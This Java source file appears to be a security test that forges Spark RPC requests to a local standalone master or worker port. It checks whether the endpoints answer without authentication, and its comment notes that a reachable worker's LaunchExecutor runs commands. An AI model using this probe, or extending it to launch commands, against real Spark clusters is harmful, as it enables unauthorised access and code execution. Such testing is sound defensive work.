// The attack on a Spark standalone master's or worker's RPC port: a client of Spark's own netty RPC, in
// its own JVM, asks the "Master" endpoint for RequestMasterState (the applications, workers and drivers
// it runs) or the "Worker" endpoint for RequestWorkerState. Whoever gets an answer there can also send
// what the same endpoints obey (a worker's LaunchExecutor runs a command as the worker's user). Without
// a secret it speaks without the SASL handshake, as any local user could; with AIRFLOW_EPOCHS_ATTACK_SECRET
// set it authenticates first (the control that shows the endpoint does answer whoever gets in).
//
// Usage: java -cp <this folder>:<pyspark jars>/* ForgedDeployRequest <port> Master|Worker
// Prints "REPLY <answer's class>" when the endpoint answered, "REFUSED <exception>" when it did not.

import org.apache.spark.SecurityManager;
import org.apache.spark.SparkConf;
import org.apache.spark.deploy.DeployMessages;
import org.apache.spark.rpc.RpcAddress;
import org.apache.spark.rpc.RpcEndpointAddress;
import org.apache.spark.rpc.RpcEndpointRef;
import org.apache.spark.rpc.RpcEnv;
import org.apache.spark.rpc.RpcEnv$;
import org.apache.spark.rpc.netty.NettyRpcEndpointRef;
import org.apache.spark.rpc.netty.NettyRpcEnv;

public class ForgedDeployRequest {
    public static void main(String[] args) {
        int port = Integer.parseInt(args[0]);
        String endpoint = args[1];
        String secret = System.getenv("AIRFLOW_EPOCHS_ATTACK_SECRET");
        SparkConf conf = new SparkConf(false)
            .set("spark.rpc.askTimeout", "20s")
            .set("spark.network.timeout", "20s");
        if (secret != null) {
            conf.set("spark.authenticate", "true").set("spark.authenticate.secret", secret);
        }
        SecurityManager security = new SecurityManager(
            conf, scala.Option.empty(), org.apache.spark.internal.config.package$.MODULE$.AUTH_SECRET_FILE());
        RpcEnv env = RpcEnv$.MODULE$.create("intruder", "127.0.0.1", 0, conf, security, true);
        Object message = endpoint.equals("Master")
            ? DeployMessages.RequestMasterState$.MODULE$ : DeployMessages.RequestWorkerState$.MODULE$;
        int status = 0;
        try {
            // Built by hand rather than through setupEndpointRef, whose existence check would be the first
            // message refused: this way the forged request is what goes on the wire.
            RpcEndpointRef ref = new NettyRpcEndpointRef(
                conf, new RpcEndpointAddress(new RpcAddress("127.0.0.1", port), endpoint), (NettyRpcEnv) env);
            Object reply = ref.askSync(message, scala.reflect.ClassTag$.MODULE$.Any());
            System.out.println("REPLY " + reply.getClass().getSimpleName());
        } catch (Throwable refused) {
            Throwable cause = refused;
            while (cause.getCause() != null) {
                cause = cause.getCause();
            }
            System.out.println("REFUSED " + refused + " / " + cause);
            status = 3;
        } finally {
            env.shutdown();
        }
        System.exit(status);
    }
}
